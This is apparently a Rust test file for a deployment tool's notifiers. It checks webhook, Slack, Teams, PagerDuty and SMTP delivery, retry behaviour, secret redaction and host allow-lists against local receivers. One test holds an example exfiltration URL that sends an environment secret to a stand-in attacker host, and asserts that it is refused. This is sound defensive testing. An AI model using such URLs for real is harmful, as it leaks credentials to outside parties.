//! Deliveries against receivers started by each test: an HTTPS receiver behind a CONNECT proxy
//! (so real webhook host names reach it), a plain loopback HTTP receiver with scripted
//! failures, and a minimal SMTP server.

use std::collections::VecDeque;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

use axum::Router;
use axum::body::to_bytes;
use axum::extract::{Request, State};
use axum::http::StatusCode;
use axum::response::{IntoResponse, Response};
use plugin_host::types::{Deployment, Plan, PlanAction};
use serde_json::{Value, json};
use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
use tokio::net::{TcpListener, TcpStream};

use super::*;
use crate::engine::plugin_config::tests::{render, test_env};

/// One request a receiver got.
#[derive(Debug, Clone)]
struct Received {
    host: String,
    method: String,
    path: String,
    headers: Vec<(String, String)>,
    body: String,
}

impl Received {
    fn json(&self) -> Value {
        serde_json::from_str(&self.body).unwrap_or_else(|e| panic!("{e}: {}", self.body))
    }

    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, v)| v.as_str())
    }
}

/// Statuses (and `Retry-After`) to answer with before answering 200, in order.
type Script = VecDeque<(u16, Option<&'static str>)>;

#[derive(Clone, Default)]
struct Receiver {
    got: Arc<Mutex<Vec<Received>>>,
    script: Arc<Mutex<Script>>,
}

impl Receiver {
    fn got(&self) -> Vec<Received> {
        self.got.lock().unwrap().clone()
    }

    fn router(&self) -> Router {
        Router::new().fallback(receive).with_state(self.clone())
    }
}

async fn receive(State(r): State<Receiver>, request: Request) -> Response {
    let (parts, body) = request.into_parts();
    let body = to_bytes(body, 1 << 20).await.unwrap();
    let headers = parts
        .headers
        .iter()
        .map(|(n, v)| (n.as_str().to_owned(), v.to_str().unwrap_or("").to_owned()))
        .collect::<Vec<_>>();
    let host = parts
        .headers
        .get("host")
        .and_then(|h| h.to_str().ok())
        .unwrap_or("")
        .to_owned();
    r.got.lock().unwrap().push(Received {
        host,
        method: parts.method.to_string(),
        path: parts.uri.path().to_owned(),
        headers,
        body: String::from_utf8_lossy(&body).into_owned(),
    });
    match r.script.lock().unwrap().pop_front() {
        Some((status, retry_after)) => {
            let mut response = (StatusCode::from_u16(status).unwrap(), "try again later").into_response();
            if let Some(after) = retry_after {
                response
                    .headers_mut()
                    .insert("retry-after", after.parse().unwrap());
            }
            response
        }
        None => (StatusCode::OK, "ok").into_response(),
    }
}

async fn serve_http<S>(io: S, app: Router)
where
    S: tokio::io::AsyncRead + tokio::io::AsyncWrite + Unpin + Send + 'static,
{
    let service = hyper_util::service::TowerToHyperService::new(app);
    let _ = hyper::server::conn::http1::Builder::new()
        .serve_connection(hyper_util::rt::TokioIo::new(io), service)
        .await;
}

/// A plain HTTP receiver on loopback.
async fn plain_receiver() -> (SocketAddr, Receiver) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let receiver = Receiver::default();
    let app = receiver.router();
    tokio::spawn(async move {
        while let Ok((tcp, _)) = listener.accept().await {
            tokio::spawn(serve_http(tcp, app.clone()));
        }
    });
    (addr, receiver)
}

/// An HTTPS receiver for `hosts` behind a CONNECT proxy on loopback, with its own CA.
/// Returns the proxy URL, the CA (PEM), the receiver and the hosts the proxy was asked for.
async fn tls_receiver(hosts: &[&str]) -> (String, Vec<u8>, Receiver, Arc<Mutex<Vec<String>>>) {
    use rcgen::{
        BasicConstraints, CertificateParams, CertifiedIssuer, DnType, IsCa, KeyPair, KeyUsagePurpose,
    };
    let mut ca_params = CertificateParams::new(Vec::<String>::new()).unwrap();
    ca_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    ca_params
        .distinguished_name
        .push(DnType::CommonName, "brickship test CA");
    ca_params.key_usages = vec![KeyUsagePurpose::KeyCertSign, KeyUsagePurpose::DigitalSignature];
    let ca = CertifiedIssuer::self_signed(ca_params, KeyPair::generate().unwrap()).unwrap();
    let leaf_key = KeyPair::generate().unwrap();
    let leaf_params =
        CertificateParams::new(hosts.iter().map(|h| (*h).to_owned()).collect::<Vec<_>>()).unwrap();
    let leaf = leaf_params.signed_by(&leaf_key, &ca).unwrap();
    let server =
        rustls::ServerConfig::builder_with_provider(Arc::new(rustls::crypto::ring::default_provider()))
            .with_safe_default_protocol_versions()
            .unwrap()
            .with_no_client_auth()
            .with_single_cert(
                vec![leaf.der().clone()],
                rustls::pki_types::PrivateKeyDer::Pkcs8(leaf_key.serialize_der().into()),
            )
            .unwrap();
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(server));
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let proxy = format!("http://{}", listener.local_addr().unwrap());
    let receiver = Receiver::default();
    let connects = Arc::new(Mutex::new(Vec::new()));
    let (app, seen) = (receiver.router(), connects.clone());
    tokio::spawn(async move {
        while let Ok((mut tcp, _)) = listener.accept().await {
            let (acceptor, app, seen) = (acceptor.clone(), app.clone(), seen.clone());
            tokio::spawn(async move {
                // `CONNECT host:443 HTTP/1.1` ... blank line, read byte by byte so no TLS
                // byte is consumed.
                let mut head = Vec::new();
                while !head.ends_with(b"\r\n\r\n") {
                    let mut byte = [0u8];
                    if tcp.read_exact(&mut byte).await.is_err() {
                        return;
                    }
                    head.push(byte[0]);
                }
                let head = String::from_utf8_lossy(&head).into_owned();
                let target = head.split_whitespace().nth(1).unwrap_or("").to_owned();
                seen.lock().unwrap().push(target);
                tcp.write_all(b"HTTP/1.1 200 Connection Established\r\n\r\n")
                    .await
                    .unwrap();
                if let Ok(tls) = acceptor.accept(tcp).await {
                    serve_http(tls, app).await;
                }
            });
        }
    });
    (proxy, ca.pem().into_bytes(), receiver, connects)
}

/// One mail an SMTP session delivered.
#[derive(Debug, Clone, Default)]
struct Mail {
    from: String,
    to: Vec<String>,
    data: String,
}

/// A minimal SMTP server on loopback (EHLO, MAIL, RCPT, DATA, RSET, NOOP, QUIT).
async fn smtp_server() -> (SocketAddr, Arc<Mutex<Vec<Mail>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let mails = Arc::new(Mutex::new(Vec::new()));
    let store = mails.clone();
    tokio::spawn(async move {
        while let Ok((tcp, _)) = listener.accept().await {
            tokio::spawn(smtp_session(tcp, store.clone()));
        }
    });
    (addr, mails)
}

async fn smtp_session(tcp: TcpStream, store: Arc<Mutex<Vec<Mail>>>) {
    let (read, mut write) = tcp.into_split();
    let mut lines = BufReader::new(read);
    let mut mail = Mail::default();
    write.write_all(b"220 test.local ESMTP ready\r\n").await.unwrap();
    let mut line = String::new();
    loop {
        line.clear();
        if lines.read_line(&mut line).await.unwrap_or(0) == 0 {
            return;
        }
        let command = line.trim_end().to_owned();
        let upper = command.to_ascii_uppercase();
        let reply: &[u8] = if upper.starts_with("EHLO") || upper.starts_with("HELO") {
            b"250-test.local\r\n250 8BITMIME\r\n"
        } else if upper.starts_with("MAIL FROM:") {
            mail = Mail {
                from: command[10..].trim().to_owned(),
                ..Mail::default()
            };
            b"250 OK\r\n"
        } else if upper.starts_with("RCPT TO:") {
            mail.to.push(command[8..].trim().to_owned());
            b"250 OK\r\n"
        } else if upper == "DATA" {
            write.write_all(b"354 end with <CRLF>.<CRLF>\r\n").await.unwrap();
            loop {
                line.clear();
                if lines.read_line(&mut line).await.unwrap_or(0) == 0 {
                    return;
                }
                if line == ".\r\n" {
                    break;
                }
                mail.data.push_str(&line);
            }
            store.lock().unwrap().push(std::mem::take(&mut mail));
            b"250 OK queued\r\n"
        } else if upper == "QUIT" {
            write.write_all(b"221 bye\r\n").await.unwrap();
            return;
        } else if upper == "RSET" || upper == "NOOP" {
            b"250 OK\r\n"
        } else {
            b"502 not implemented\r\n"
        };
        write.write_all(reply).await.unwrap();
    }
}

fn runtime() -> &'static PluginRuntime {
    static RUNTIME: std::sync::OnceLock<PluginRuntime> = std::sync::OnceLock::new();
    RUNTIME.get_or_init(|| PluginRuntime::builder().no_disk_cache().build().expect("runtime"))
}

const BASE: &str = "project: demo\nenvironments:\n  dev: {workspace: {host: local}}\n";

fn notifiers(yaml: &str, options: DeliveryOptions) -> Notifiers {
    let dir = tempfile::tempdir().unwrap();
    let p = render(dir.path(), &format!("{BASE}{yaml}"), "dev", &test_env);
    let (settings, _) = PluginSettings::load(&p, &test_env, false).unwrap();
    Notifiers::load_with(runtime(), &settings, options).unwrap()
}

fn event(kind: EventKind) -> Event {
    Event {
        kind,
        deployment: Deployment {
            id: "dep-20260105-120000-ab12".into(),
            pipeline: "customer-360".into(),
            environment: "prod".into(),
            version: "abc123".into(),
            desired: json!({"name": "customer-360-prod"}),
            acl: None,
            live: None,
            live_job_id: Some(42),
            plan: Plan {
                action: PlanAction::Update,
                changes: vec![],
            },
            config: json!({}),
            now_ms: 1_767_614_400_000,
        },
        strategy: "direct".into(),
        message: "deployment failed: verify found 1 difference".into(),
        detail: "the live job differs from the desired settings".into(),
        findings: vec![],
        job_id: Some(42),
        url: Some("https://example.cloud.databricks.com/jobs/42".into()),
        at_ms: 1_767_614_400_000,
    }
}

fn fast() -> DeliveryOptions {
    DeliveryOptions {
        backoff: Some(Duration::from_millis(1)),
        ..DeliveryOptions::default()
    }
}

#[tokio::test]
async fn slack_teams_pagerduty_and_webhook_payloads_reach_their_hosts() {
    let hosts = [
        "hooks.slack.com",
        "acme.webhook.office.com",
        "events.pagerduty.com",
        "hooks.example.com",
    ];
    let (proxy, ca, receiver, connects) = tls_receiver(&hosts).await;
    let yaml = "notifications:
  allowed_hosts: [hooks.slack.com, '*.webhook.office.com', events.pagerduty.com]
notifiers:
  chat: {plugin: slack, config: {webhook_url: '${env.SLACK_WEBHOOK_URL}'}}
  teams: {plugin: teams, config: {webhook_url: 'https://acme.webhook.office.com/webhookb2/abc/IncomingWebhook/def'}}
  oncall: {plugin: pagerduty, config: {routing_key: '${env.PD_KEY}'}}
  hook:
    plugin: webhook
    allowed_hosts: [hooks.example.com]
    config: {url: 'https://hooks.example.com/brickship', headers: {authorization: 'Bearer ${env.SMTP_PASSWORD}'}}
";
    let options = DeliveryOptions {
        proxy: Some(proxy),
        extra_roots_pem: vec![ca],
        ..fast()
    };
    let n = notifiers(yaml, options);
    let records = n.notify(&event(EventKind::Failed)).await;
    let summary: Vec<_> = records
        .iter()
        .map(|r| {
            (
                r.notifier.as_str(),
                r.channel,
                r.target.as_str(),
                r.outcome,
                r.status,
                r.attempts,
            )
        })
        .collect();
    assert_eq!(
        summary,
        [
            (
                "chat",
                Channel::Http,
                "https://hooks.slack.com",
                DeliveryOutcome::Delivered,
                Some(200),
                1
            ),
            (
                "teams",
                Channel::Http,
                "https://acme.webhook.office.com",
                DeliveryOutcome::Delivered,
                Some(200),
                1
            ),
            (
                "oncall",
                Channel::Http,
                "https://events.pagerduty.com",
                DeliveryOutcome::Delivered,
                Some(200),
                1
            ),
            (
                "hook",
                Channel::Http,
                "https://hooks.example.com",
                DeliveryOutcome::Delivered,
                Some(200),
                1
            ),
        ],
        "{records:#?}"
    );
    assert_eq!(
        *connects.lock().unwrap(),
        [
            "hooks.slack.com:443",
            "acme.webhook.office.com:443",
            "events.pagerduty.com:443",
            "hooks.example.com:443"
        ]
    );
    let got = receiver.got();
    assert_eq!(got.len(), 4);

    let slack = &got[0];
    assert_eq!(
        (slack.host.as_str(), slack.method.as_str(), slack.path.as_str()),
        ("hooks.slack.com", "POST", "/services/T0/B0/s3cr3t-token")
    );
    let body = slack.json();
    assert!(
        body["text"].as_str().unwrap().contains("deployment failed"),
        "{body}"
    );
    assert_eq!(body["blocks"][0]["type"], "header");

    let teams = got[1].json();
    assert_eq!(got[1].path, "/webhookb2/abc/IncomingWebhook/def");
    assert_eq!(teams["type"], "message");
    assert_eq!(
        teams["attachments"][0]["contentType"],
        "application/vnd.microsoft.card.adaptive"
    );

    let pd = got[2].json();
    assert_eq!(got[2].path, "/v2/enqueue");
    assert_eq!(pd["routing_key"], test_env("PD_KEY").unwrap().as_str());
    assert_eq!(pd["event_action"], "trigger");
    assert_eq!(
        pd["dedup_key"],
        "brickship/customer-360/prod/dep-20260105-120000-ab12"
    );

    let hook = &got[3];
    assert_eq!(
        hook.header("authorization"),
        Some("Bearer hunter2-password"),
        "the receiver gets the real secret"
    );
    assert_eq!(hook.json()["event"], "failed");
    assert_eq!(hook.json()["deployment_id"], "dep-20260105-120000-ab12");

    // Nothing secret in the records.
    let shown = serde_json::to_string(&records).unwrap();
    for secret in [
        "s3cr3t-token",
        "hunter2",
        &test_env("PD_KEY").unwrap(),
        "IncomingWebhook",
    ] {
        assert!(!shown.contains(secret), "{secret} leaked into {shown}");
    }

    // Events a notifier is not subscribed to render nothing.
    let records = n.notify(&event(EventKind::StepDone)).await;
    assert!(
        records.iter().all(|r| r.notifier != "oncall"),
        "pagerduty ignores step-done: {records:?}"
    );
}

#[tokio::test]
async fn a_host_outside_the_allow_list_is_refused_and_never_contacted() {
    let (proxy, ca, receiver, connects) = tls_receiver(&["hooks.example.com", "evil.example.net"]).await;
    let yaml = "notifications:
  allowed_hosts: [hooks.example.com]
notifiers:
  ok: {plugin: webhook, config: {url: 'https://hooks.example.com/x'}}
  exfil: {plugin: webhook, config: {url: 'https://evil.example.net/collect?token=${env.SMTP_PASSWORD}'}}
  clear: {plugin: webhook, allowed_hosts: [hooks.example.com], config: {url: 'http://hooks.example.com/plain'}}
";
    let n = notifiers(
        yaml,
        DeliveryOptions {
            proxy: Some(proxy),
            extra_roots_pem: vec![ca],
            ..fast()
        },
    );
    let records = n.notify(&event(EventKind::Succeeded)).await;
    let outcomes: Vec<_> = records
        .iter()
        .map(|r| (r.notifier.as_str(), r.outcome, r.attempts))
        .collect();
    assert_eq!(
        outcomes,
        [
            ("ok", DeliveryOutcome::Delivered, 1),
            ("exfil", DeliveryOutcome::Refused, 0),
            ("clear", DeliveryOutcome::Refused, 0),
        ]
    );
    let exfil = &records[1];
    assert_eq!(
        exfil.target, "https://evil.example.net",
        "no path or query: they may hold tokens"
    );
    assert!(
        exfil
            .error
            .as_deref()
            .unwrap()
            .contains("`evil.example.net` is not allowed"),
        "{exfil:?}"
    );
    assert!(
        records[2].error.as_deref().unwrap().contains("plain `http://`"),
        "{:?}",
        records[2]
    );
    assert_eq!(
        *connects.lock().unwrap(),
        ["hooks.example.com:443"],
        "the refused hosts were never contacted"
    );
    assert_eq!(receiver.got().len(), 1);
    assert!(!serde_json::to_string(&records).unwrap().contains("hunter2"));
}

#[tokio::test]
async fn server_errors_and_429_are_retried_and_client_errors_are_not() {
    let (addr, receiver) = plain_receiver().await;
    receiver.script.lock().unwrap().extend([(500, None), (503, None)]);
    let yaml = format!(
        "notifications:\n  allowed_hosts: ['127.0.0.1:{}']\n  max_attempts: 3\nnotifiers:\n  hook: {{plugin: webhook, config: {{url: 'http://127.0.0.1:{}/hook'}}}}\n",
        addr.port(),
        addr.port()
    );
    let n = notifiers(&yaml, fast());
    let records = n.notify(&event(EventKind::Succeeded)).await;
    assert_eq!(
        (records[0].outcome, records[0].attempts, records[0].status),
        (DeliveryOutcome::Delivered, 3, Some(200)),
        "{records:?}"
    );
    assert_eq!(receiver.got().len(), 3, "two failures, then the delivery");
    assert!(receiver.got().iter().all(|r| r.path == "/hook"));

    receiver
        .script
        .lock()
        .unwrap()
        .extend([(429, Some("0")), (500, None), (500, None)]);
    let records = n.notify(&event(EventKind::Succeeded)).await;
    assert_eq!(
        (records[0].outcome, records[0].attempts, records[0].status),
        (DeliveryOutcome::Failed, 3, Some(500)),
        "bounded: {records:?}"
    );
    assert!(
        records[0].error.as_deref().unwrap().contains("500"),
        "{records:?}"
    );
    assert_eq!(receiver.got().len(), 6);

    receiver.script.lock().unwrap().push_back((400, None));
    let records = n.notify(&event(EventKind::Succeeded)).await;
    assert_eq!(
        (records[0].outcome, records[0].attempts, records[0].status),
        (DeliveryOutcome::Failed, 1, Some(400))
    );
    assert_eq!(receiver.got().len(), 7, "a 400 is not retried");
}

#[tokio::test]
async fn connection_errors_are_retried_and_reported_without_the_url() {
    // A port nothing listens on: bind, note the port, close.
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let yaml = format!(
        "notifications:\n  allowed_hosts: [127.0.0.1]\n  max_attempts: 2\nnotifiers:\n  hook: {{plugin: webhook, config: {{url: 'http://127.0.0.1:{port}/hook/${{env.SMTP_PASSWORD}}'}}}}\n"
    );
    let n = notifiers(&yaml, fast());
    let records = n.notify(&event(EventKind::Failed)).await;
    let r = &records[0];
    assert_eq!(
        (r.outcome, r.attempts, r.status),
        (DeliveryOutcome::Failed, 2, None),
        "{r:?}"
    );
    let error = r.error.as_deref().unwrap();
    assert!(!error.contains("hunter2") && !error.contains("/hook"), "{error}");
    assert!(error.to_lowercase().contains("connect"), "{error}");
    assert_eq!(r.target, format!("http://127.0.0.1:{port}"));
}

#[tokio::test]
async fn emails_go_through_a_real_smtp_session() {
    let (addr, mails) = smtp_server().await;
    let yaml = format!(
        "notifications:
  smtp: {{host: 127.0.0.1, port: {}, from: brickship@company.com, tls: none}}
notifiers:
  mail: {{plugin: email, config: {{to: [data-engineering@company.com], cc: [oncall@company.com]}}}}
",
        addr.port()
    );
    let n = notifiers(&yaml, fast());
    let records = n.notify(&event(EventKind::RolledBack)).await;
    assert_eq!(records.len(), 1, "{records:?}");
    let r = &records[0];
    assert_eq!(
        (r.channel, r.outcome, r.status, r.attempts),
        (Channel::Email, DeliveryOutcome::Delivered, Some(250), 1),
        "{r:?}"
    );
    assert_eq!(
        r.target,
        format!("smtp://127.0.0.1:{} (2 recipients)", addr.port())
    );
    let mails = mails.lock().unwrap().clone();
    assert_eq!(mails.len(), 1);
    let mail = &mails[0];
    assert!(mail.from.starts_with("<brickship@company.com>"), "{mail:?}");
    assert_eq!(
        mail.to,
        ["<data-engineering@company.com>", "<oncall@company.com>"]
    );
    assert!(mail.data.contains("Subject: [brickship]"), "{}", mail.data);
    assert!(mail.data.contains("customer-360"), "{}", mail.data);
    assert!(
        mail.data.contains("To: data-engineering@company.com"),
        "{}",
        mail.data
    );
}

#[tokio::test]
async fn emails_without_a_relay_are_refused_and_broken_notifiers_are_recorded() {
    let yaml = "notifiers:\n  mail: {plugin: email, config: {to: [a@company.com]}}\n";
    let n = notifiers(yaml, fast());
    let records = n.notify(&event(EventKind::Failed)).await;
    assert_eq!(records[0].outcome, DeliveryOutcome::Refused);
    assert!(
        records[0]
            .error
            .as_deref()
            .unwrap()
            .contains("notifications.smtp"),
        "{records:?}"
    );

    // A relay that is not there: the SMTP connection fails, is retried, and is recorded.
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let yaml = format!(
        "notifications:\n  max_attempts: 2\n  smtp: {{host: 127.0.0.1, port: {port}, from: b@company.com, tls: none}}\nnotifiers:\n  mail: {{plugin: email, config: {{to: [a@company.com]}}}}\n"
    );
    let records = notifiers(&yaml, fast()).notify(&event(EventKind::Failed)).await;
    assert_eq!(
        (records[0].outcome, records[0].attempts),
        (DeliveryOutcome::Failed, 2),
        "{records:?}"
    );
}

#[tokio::test]
async fn refused_notifier_configs_are_findings() {
    let dir = tempfile::tempdir().unwrap();
    let yaml = format!(
        "{BASE}notifiers:\n  chat:\n    plugin: slack\n    config:\n      webhook_url: http://insecure.example.com/x\n"
    );
    let p = render(dir.path(), &yaml, "dev", &test_env);
    let (settings, _) = PluginSettings::load(&p, &test_env, false).unwrap();
    let err = Notifiers::load(runtime(), &settings).unwrap_err();
    assert_eq!(err.exit_code(), 2);
    let EngineError::Invalid { diagnostics, .. } = err else {
        panic!("{err}")
    };
    let text = diagnostics.render(false);
    assert!(
        text.contains("notifier `chat` (`slack`) refuses its configuration"),
        "{text}"
    );
    assert!(text.contains("brickship.yaml:8:20"), "{text}");
}
